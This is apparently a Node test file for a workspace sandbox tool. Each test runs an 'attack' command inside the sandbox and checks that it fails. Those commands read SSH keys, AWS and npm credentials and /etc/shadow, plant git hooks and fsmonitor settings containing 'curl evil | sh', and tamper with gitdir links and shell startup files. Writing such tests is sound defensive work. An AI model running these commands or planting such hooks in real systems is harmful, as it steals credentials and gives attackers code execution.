import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';
import { skipReason, tree, who, wsb } from './helpers';

const skip = skipReason;

test(`secrets in HOME are not there; the workspace is (${who})`, { skip }, () => {
  const home = tree({ '.ssh/id_rsa': 'PRIVATE KEY', '.aws/credentials': 'AWS', '.npmrc': '//registry/:_authToken=NPM' });
  const ws = tree({ 'readme.txt': 'hello' });
  const env = { ...process.env, HOME: home };
  const attack = wsb(['run', '--', 'sh', '-c', 'cat ~/.ssh/id_rsa ~/.aws/credentials ~/.npmrc; ls -A ~'], { cwd: ws, env });
  assert.doesNotMatch(attack.stdout, /PRIVATE KEY|AWS|NPM|\.ssh/);
  assert.match(attack.stderr, /No such file/);
  const control = wsb(['run', '--', 'cat', 'readme.txt'], { cwd: ws, env });
  assert.equal(control.stdout, 'hello');
  assert.equal(control.status, 0);
});

test(`files outside the workspace are unreadable unless granted (${who})`, { skip }, () => {
  const outside = tree({ 'secret.txt': 'TOP SECRET' });
  const ws = tree();
  const attack = wsb(['run', '--', 'cat', path.join(outside, 'secret.txt')], { cwd: ws });
  assert.notEqual(attack.status, 0);
  assert.doesNotMatch(attack.stdout, /TOP SECRET/);
  const control = wsb(['run', '--allow-read', outside, '--', 'cat', path.join(outside, 'secret.txt')], { cwd: ws });
  assert.equal(control.stdout, 'TOP SECRET');
});

test(`root-only files in /etc are masked, even for root (${who})`, { skip }, () => {
  const r = wsb(['run', '--', 'sh', '-c', 'cat /etc/shadow /etc/gshadow; grep -c ^root: /etc/passwd'], { cwd: tree() });
  assert.doesNotMatch(r.stdout, /\$[0-9a-z]+\$|^root:/m);
  assert.equal(r.stdout.trim(), '1', 'positive control: /etc/passwd is readable');
});

test(`nothing is writable but the grants; a granted directory is (${who})`, { skip }, () => {
  const ws = tree({ 'src/a.txt': 'original' });
  const outside = tree();
  const attack = wsb(['run', '--', 'sh', '-c', `echo pwned > src/a.txt; echo pwned > new.txt; echo pwned > ${outside}/x; echo pwned > /usr/x; echo ok`], { cwd: ws });
  assert.match(attack.stderr, /Read-only file system/);
  assert.equal(fs.readFileSync(path.join(ws, 'src/a.txt'), 'utf8'), 'original');
  assert.ok(!fs.existsSync(path.join(ws, 'new.txt')));
  assert.deepEqual(fs.readdirSync(outside), []);

  const control = wsb(['run', '--allow-write', 'src', '--', 'sh', '-c', 'echo changed > src/a.txt && echo made > src/b.txt'], { cwd: ws });
  assert.equal(control.status, 0, control.stderr);
  assert.equal(fs.readFileSync(path.join(ws, 'src/a.txt'), 'utf8'), 'changed\n');
  assert.equal(fs.readFileSync(path.join(ws, 'src/b.txt'), 'utf8'), 'made\n');
});

test(`the private HOME and /tmp are writable and vanish afterwards (${who})`, { skip }, () => {
  const home = tree();
  const r = wsb(['run', '--', 'sh', '-c', 'echo a > ~/.cache-file && echo b > /tmp/t && cat ~/.cache-file /tmp/t'], { cwd: tree(), env: { ...process.env, HOME: home } });
  assert.equal(r.stdout, 'a\nb\n');
  assert.deepEqual(fs.readdirSync(home), []);
});

test(`a write grant never covers git hooks, git config, editor settings or the manifest (${who})`, { skip }, () => {
  const ws = tree({
    '.git/config': '[core]\n',
    '.git/HEAD': 'ref: refs/heads/main\n',
    '.vscode/settings.json': '{}',
    '.vscode/sandbox.json': '{"tools":{}}',
    'src/index.js': '',
  });
  fs.mkdirSync(path.join(ws, '.git/hooks'));
  const attack = wsb(
    ['run', '--allow-write', '.', '--', 'sh', '-c', [
      'echo "curl evil | sh" > .git/hooks/pre-commit',
      'echo "[core] hooksPath = /tmp" >> .git/config',
      'echo "{}" > .vscode/tasks.json',
      'echo \'{"tools":{"x":{"command":["sh"],"capabilities":{"net":"all"}}}}\' > .vscode/sandbox.json',
      'mkdir -p .husky; echo evil > .husky/pre-commit',
      'mv .git/hooks .git/hooks-gone',
      'echo fine > src/index.js',
    ].join('; ')],
    { cwd: ws },
  );
  assert.equal(fs.readFileSync(path.join(ws, 'src/index.js'), 'utf8'), 'fine\n', 'positive control: the grant works');
  assert.deepEqual(fs.readdirSync(path.join(ws, '.git/hooks')), []);
  assert.equal(fs.readFileSync(path.join(ws, '.git/config'), 'utf8'), '[core]\n');
  assert.deepEqual(fs.readdirSync(path.join(ws, '.vscode')).sort(), ['sandbox.json', 'settings.json']);
  assert.equal(fs.readFileSync(path.join(ws, '.vscode/sandbox.json'), 'utf8'), '{"tools":{}}');
  assert.deepEqual(fs.readdirSync(path.join(ws, '.husky')), [], 'a missing protected directory is a read-only placeholder');
  assert.match(attack.stderr, /Read-only file system|Device or resource busy/);

  const exact = wsb(['run', '--allow-write', '.', '--allow-write', '.vscode', '--', 'sh', '-c', 'echo "{}" > .vscode/tasks.json'], { cwd: ws });
  assert.equal(exact.status, 0, exact.stderr);
  assert.ok(fs.existsSync(path.join(ws, '.vscode/tasks.json')), 'granting the exact path makes it writable');
});

test(`a write grant never covers the git metadata of submodules, worktrees and nested repositories (${who})`, { skip }, () => {
  const ws = tree({
    '.git/HEAD': 'ref: refs/heads/main\n',
    '.git/config': '[core]\n',
    '.git/modules/lib/HEAD': 'ref: refs/heads/main\n',
    '.git/modules/lib/config': '[core]\n',
    '.git/worktrees/feature/commondir': '../..\n',
    'lib/.git': 'gitdir: ../.git/modules/lib\n',
    'vendor/tool/.git/HEAD': 'ref: refs/heads/main\n',
    'vendor/tool/.git/config': '[core]\n',
  });
  fs.mkdirSync(path.join(ws, '.git/modules/lib/hooks'));
  const attack = wsb(
    ['run', '--allow-write', '.', '--', 'sh', '-c', [
      'echo "curl evil | sh" > .git/modules/lib/hooks/post-checkout',
      'printf "[core]\\n\\tfsmonitor = curl evil | sh\\n" >> .git/modules/lib/config',
      'echo "gitdir: ../evil" > lib/.git',
      'echo "/tmp/evil" > .git/worktrees/feature/commondir',
      'echo "curl evil | sh" > vendor/tool/.git/hooks/pre-commit',
      'printf "[core]\\n\\tfsmonitor = curl evil | sh\\n" >> vendor/tool/.git/config',
      'echo index > .git/modules/lib/index',
      'echo fine > vendor/tool/README',
    ].join('; ')],
    { cwd: ws },
  );
  assert.equal(fs.readFileSync(path.join(ws, 'vendor/tool/README'), 'utf8'), 'fine\n', 'positive control: the grant works in the nested repository');
  assert.equal(fs.readFileSync(path.join(ws, '.git/modules/lib/index'), 'utf8'), 'index\n', "positive control: git's own working files stay writable");
  assert.deepEqual(fs.readdirSync(path.join(ws, '.git/modules/lib/hooks')), []);
  assert.equal(fs.readFileSync(path.join(ws, '.git/modules/lib/config'), 'utf8'), '[core]\n');
  assert.equal(fs.readFileSync(path.join(ws, 'lib/.git'), 'utf8'), 'gitdir: ../.git/modules/lib\n');
  assert.equal(fs.readFileSync(path.join(ws, '.git/worktrees/feature/commondir'), 'utf8'), '../..\n');
  assert.deepEqual(fs.readdirSync(path.join(ws, 'vendor/tool/.git/hooks')), [], 'a missing hooks directory is a read-only placeholder');
  assert.equal(fs.readFileSync(path.join(ws, 'vendor/tool/.git/config'), 'utf8'), '[core]\n');
  assert.match(attack.stderr, /Read-only file system/);
});

test(`git metadata a tool plants under its grant is moved aside and named; a plain git init stays (${who})`, { skip }, () => {
  const ws = tree({ 'src/index.js': '' });
  const auditLog = path.join(tree(), 'audit.jsonl');
  const attack = wsb(
    ['run', '--audit-log', auditLog, '--allow-write', '.', '--', 'sh', '-c', [
      'git init -q plain',
      'git init -q evil && git -C evil config core.fsmonitor "touch /tmp/pwned-by-fsmonitor"',
      'mkdir -p hooked/.git/hooks && echo "ref: refs/heads/main" > hooked/.git/HEAD && echo "curl evil | sh" > hooked/.git/hooks/post-checkout',
    ].join(' && ')],
    { cwd: ws },
  );
  assert.equal(attack.status, 0, attack.stderr);
  assert.ok(fs.existsSync(path.join(ws, 'plain/.git/HEAD')), 'positive control: a plain git init is left alone');
  for (const repo of ['evil', 'hooked']) {
    assert.equal(fs.existsSync(path.join(ws, repo, '.git')), false, `${repo}/.git moved aside`);
    assert.ok(fs.existsSync(path.join(ws, repo, '.git.wsb-quarantine', 'HEAD')), `${repo}/.git kept for review`);
    assert.match(attack.stderr, new RegExp(`warning: the tool was refused git metadata it created at ${ws}/${repo}/\\.git`));
  }
  const audit = fs.readFileSync(auditLog, 'utf8');
  assert.match(audit, /config core\.fsmonitor/);
  assert.match(audit, /hook post-checkout/);
});

test(`symlinks in the workspace open no way out (${who})`, { skip }, () => {
  const outside = tree({ 'secret.txt': 'TOP SECRET' });
  const ws = tree();
  fs.symlinkSync(outside, path.join(ws, 'link'));
  fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'file-link'));
  const attack = wsb(['run', '--', 'sh', '-c', 'cat link/secret.txt; cat file-link'], { cwd: ws });
  assert.doesNotMatch(attack.stdout, /TOP SECRET/);

  const viaGrant = wsb(['run', '--allow-write', 'link', '--', 'sh', '-c', 'echo pwned > link/owned'], { cwd: ws });
  assert.equal(viaGrant.status, 2);
  assert.match(viaGrant.stderr, /symlink to .* outside the workspace/);
  assert.deepEqual(fs.readdirSync(outside), ['secret.txt']);

  const control = wsb(['run', '--allow-read', outside, '--', 'cat', 'link/secret.txt'], { cwd: ws });
  assert.equal(control.stdout, 'TOP SECRET');
});

test(`missing write targets are created: a directory, or a file when the name has an extension (${who})`, { skip }, () => {
  const ws = tree();
  const r = wsb(['run', '--allow-write', 'dist', '--allow-write', 'cache/out.json', '--', 'sh', '-c', 'echo x > dist/a && echo "{}" > cache/out.json'], { cwd: ws });
  assert.equal(r.status, 0, r.stderr);
  assert.equal(fs.readFileSync(path.join(ws, 'cache/out.json'), 'utf8'), '{}\n');
  assert.equal(fs.readFileSync(path.join(ws, 'dist/a'), 'utf8'), 'x\n');
});

test(`a missing read grant is skipped with a warning, not a broken run (${who})`, { skip }, () => {
  const r = wsb(['run', '--allow-read', '/nonexistent/wsb-path', '--', 'true'], { cwd: tree() });
  assert.equal(r.status, 0);
  assert.match(r.stderr, /\/nonexistent\/wsb-path does not exist; the read grant was skipped/);
});

test(`a write grant inside HOME keeps start-up and git settings there read-only; HOME itself cannot be granted (${who})`, { skip }, () => {
  const home = tree({ '.config/git/config': '[core]\n', '.config/app/state.json': '{}' });
  const env = { ...process.env, HOME: home };
  const attack = wsb(['run', '--allow-write', `${home}/.config`, '--', 'sh', '-c', 'echo "[alias] x = !evil" >> ~/.config/git/config; mkdir -p ~/.config/fish; echo evil > ~/.config/fish/config.fish; echo "{\\"ok\\":1}" > ~/.config/app/state.json'], { cwd: tree(), env });
  assert.equal(fs.readFileSync(path.join(home, '.config/app/state.json'), 'utf8'), '{"ok":1}\n', 'positive control: the grant works');
  assert.equal(fs.readFileSync(path.join(home, '.config/git/config'), 'utf8'), '[core]\n');
  assert.deepEqual(fs.readdirSync(path.join(home, '.config/fish')), [], 'a missing protected directory is an empty read-only placeholder');
  assert.match(attack.stderr, /Read-only file system/);
  const whole = wsb(['run', '--allow-write', home, '--', 'sh', '-c', 'echo evil > ~/.bashrc'], { cwd: tree(), env });
  assert.equal(whole.status, 2);
  assert.match(whole.stderr, /contains your home directory/);
  assert.ok(!fs.existsSync(path.join(home, '.bashrc')));
});
